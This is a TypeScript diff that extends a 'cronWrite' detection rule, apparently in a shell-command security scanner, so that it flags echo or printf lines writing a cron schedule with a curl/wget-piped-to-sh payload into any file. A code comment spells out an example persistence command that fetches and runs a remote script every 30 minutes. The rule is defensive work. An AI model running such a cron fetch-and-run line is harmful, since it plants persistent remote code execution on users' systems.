@@ -34,7 +34,13 @@ const cronWrite: Rule = {
   match: (s) => {
     const written = writesTo(s, CRON_PATH) ?? cronPathHandedOver(s);
     const payload = written && stagedPayload(s);
-    return written && payload ? { ...written, ...payload } : undefined;
+    if (written && payload) return { ...written, ...payload };
+    // A schedule line with a fetch-and-run payload typed into any file, to be installed later (`echo "*/30 * * * * curl
+    // -sL http://h/cr.sh | sh" >> ~/cron`): the cron job is written, whatever the file is called.
+    const line = echoedContent(s);
+    const scheduled = line !== undefined && /(?:^|["'\s])(?:@reboot|(?:[\d*/,-]+\s+){4}[\d*/,-]+)\s+(?:\w+\s+)?\S*(?:curl|wget)\b[^\n]*\|\s*(?:ba)?sh\b/.test(line);
+    const into = scheduled ? invocationsOf(s, 'echo', 'printf').flatMap((inv) => inv.command.redirects).find((r) => />/.test(r.op)) : undefined;
+    return into ? { writes: into.target, schedule: line!.slice(0, 120) } : undefined;
   },
 };
 
